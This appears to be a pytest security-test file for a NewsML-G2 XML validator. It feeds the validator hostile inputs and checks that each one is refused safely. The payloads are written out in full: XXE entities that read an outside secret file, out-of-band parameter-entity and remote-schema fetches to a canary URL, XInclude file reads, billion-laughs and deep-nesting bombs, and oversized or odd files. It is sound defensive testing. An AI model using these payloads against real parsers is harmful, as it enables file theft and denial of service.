"""`pressroom validate` on hostile NewsML-G2: entities, DTDs, schema locations, XInclude, sizes; hostile XSDs."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from .conftest import EITHER, NEWSML_XSD, REFUSED, Attack, Result, baseline, params, run_attack, write

pytestmark = pytest.mark.skipif(not NEWSML_XSD.is_file(), reason="IPTC's NewsML-G2 XSD is not in the shared folder")


def _xml() -> str:
    return baseline()["release.xml"].decode("utf-8")


def _validate(make, *, xsd: str | None = None):
    """item.xml = make(xml, url, outside); validate it (against IPTC's XSD or a hostile one)."""
    def build(work: Path, url: str) -> list[str]:
        outside = work.parent / "outside"
        data = make(_xml(), url, outside)
        write(work / "item.xml", data)
        if xsd is not None:
            write(work / "evil.xsd", xsd.replace("{url}", url).replace("{outside}", str(outside)))
            return ["validate", "item.xml", "--xsd", "evil.xsd"]
        return ["validate", "item.xml", "--xsd", str(NEWSML_XSD)]
    return build


def _invalid_said(work: Path, result: Result) -> None:
    """Refused: exit 1, a bounded number of lines, each naming the file."""
    assert result.code == 1, result.code
    lines = [line for line in (result.stdout + result.stderr).splitlines() if line.strip()]
    assert 1 <= len(lines) <= 60, len(lines)
    assert all(line.startswith(("item.xml:", "pressroom: ")) for line in lines), lines[:3]


def _valid_said(work: Path, result: Result) -> None:
    assert result.code == 0 and "valid NewsML-G2" in result.stdout, result.stdout


def _head(xml: str, doctype: str) -> str:
    """The item with a DOCTYPE (and whatever else) after the XML declaration."""
    decl, rest = xml.split("?>", 1)
    return decl + "?>" + doctype + rest


def _dir_refused(work: Path, result: Result) -> None:
    assert result.code == 1 and result.stdout.startswith("d: "), result.stdout


def _sparse_item(work: Path) -> list[str]:
    with open(work / "item.xml", "wb") as fh:
        fh.write(b"<?xml version='1.0'?><newsItem>")
        fh.truncate(3 << 30)
    return ["validate", "item.xml", "--xsd", str(NEWSML_XSD)]


LAUGHS = ('<!DOCTYPE newsItem [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
          '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
          '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
          '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>')
XSD_HEAD = '<?xml version="1.0"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" ' \
           'targetNamespace="http://iptc.org/std/nar/2006-10-01/">'

def _attack(*args, **kwargs) -> Attack:
    return Attack(*args, lines_on="both", max_error_lines=60, **kwargs)


ATTACKS = [
    _attack("nml-xxe-file", "an external entity to a file outside, used in the headline",
           _validate(lambda x, u, o: _head(x, f'<!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file://{o}/secret.txt">]>')
                     .replace("<headline>", "<headline>&xxe;", 1)), expect=EITHER, check=_invalid_said),
    _attack("nml-external-dtd", "a DOCTYPE with an external DTD at the canary",
           _validate(lambda x, u, o: _head(x, f'<!DOCTYPE newsItem SYSTEM "{u}newsml.dtd">')), expect=EITHER),
    _attack("nml-parameter-entity", "a parameter entity that pulls a remote DTD (out-of-band XXE)",
           _validate(lambda x, u, o: _head(x, f'<!DOCTYPE newsItem [<!ENTITY % p SYSTEM "{u}p.dtd"> %p;]>')),
           expect=EITHER),
    _attack("nml-billion-laughs", "billion laughs in the headline", _validate(
        lambda x, u, o: _head(x, LAUGHS).replace("<headline>", "<headline>&h;", 1)), expect=EITHER,
           check=_invalid_said, timeout=60),
    _attack("nml-schema-location", "xsi:schemaLocation and noNamespaceSchemaLocation at the canary",
           _validate(lambda x, u, o: x.replace("<newsItem ", f'<newsItem xmlns:xsi="http://www.w3.org/2001/'
                                                f'XMLSchema-instance" xsi:schemaLocation="http://iptc.org/std/nar/'
                                                f'2006-10-01/ {u}evil.xsd" ', 1)), expect=EITHER),
    _attack("nml-xinclude", "an XInclude of a file outside and of the canary", _validate(
        lambda x, u, o: x.replace("<headline>", f'<headline><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                                f'href="file://{o}/secret.txt" parse="text"/><xi:include xmlns:xi='
                                                f'"http://www.w3.org/2001/XInclude" href="{u}x.xml"/>', 1)),
           expect=EITHER),
    _attack("nml-stylesheet-pi", "an <?xml-stylesheet?> at the canary", _validate(
        lambda x, u, o: _head(x, f'<?xml-stylesheet type="text/xsl" href="{u}s.xsl"?>')), expect=EITHER),
    _attack("nml-deep-nesting", "200,000 nested elements inside the body", _validate(
        lambda x, u, o: x.replace("</headline>", "</headline>" + "<x>" * 200000 + "</x>" * 200000, 1)),
           expect=EITHER, check=_invalid_said, timeout=60),
    _attack("nml-utf16", "the item re-encoded as UTF-16 with its declaration changed (legal XML)", _validate(
        lambda x, u, o: x.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")), expect=EITHER,
           check=_valid_said),
    _attack("nml-binary", "a PNG named item.xml",
            _validate(lambda x, u, o: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8),
           expect=EITHER, check=_invalid_said),
    _attack("nml-huge-attribute", "a 20 MB attribute value", _validate(
        lambda x, u, o: x.replace("<newsItem ", '<newsItem data-x="' + "x" * (20 << 20) + '" ', 1)),
           expect=EITHER, check=_invalid_said, timeout=60),
    _attack("nml-sparse-3gb", "a 3 GB sparse item.xml (read whole?)", lambda w, u: _sparse_item(w), expect=EITHER,
           check=_invalid_said, timeout=60, env={"HOSTILE_RLIMIT_AS": str(2 << 30)}),
    _attack("validate-fifo", "validate a FIFO (would block forever when opened)", lambda w, u: (
        os.mkfifo(w / "item.xml"), ["validate", "item.xml", "--xsd", str(NEWSML_XSD)])[1], expect=EITHER,
            check=_invalid_said, timeout=30),
    _attack("xsd-import-remote", "a hostile --xsd that imports a schema from the canary", _validate(
        lambda x, u, o: x, xsd=XSD_HEAD + '<xs:import namespace="urn:x" schemaLocation="{url}x.xsd"/></xs:schema>'),
           expect=REFUSED),
    _attack("xsd-include-outside", "a hostile --xsd that includes a file outside", _validate(
        lambda x, u, o: x, xsd=XSD_HEAD + '<xs:include schemaLocation="file://{outside}/secret.txt"/></xs:schema>'),
           expect=REFUSED),
    _attack("xsd-entity", "a hostile --xsd with an external entity", _validate(
        lambda x, u, o: x, xsd='<?xml version="1.0"?><!DOCTYPE xs:schema [<!ENTITY e SYSTEM "{url}e.dtd">]>'
                               + XSD_HEAD[21:] + "&e;</xs:schema>"), expect=REFUSED),
    _attack("validate-directory", "validate a folder", lambda w, u: (os.mkdir(w / "d"), ["validate", "d", "--xsd",
                                                                                         str(NEWSML_XSD)])[1],
           expect=EITHER, check=_dir_refused),
]


@pytest.mark.parametrize("attack", params(ATTACKS))
def test_validate_attack(attack: Attack, tmp_path: Path, canary) -> None:
    run_attack(attack, tmp_path, canary)
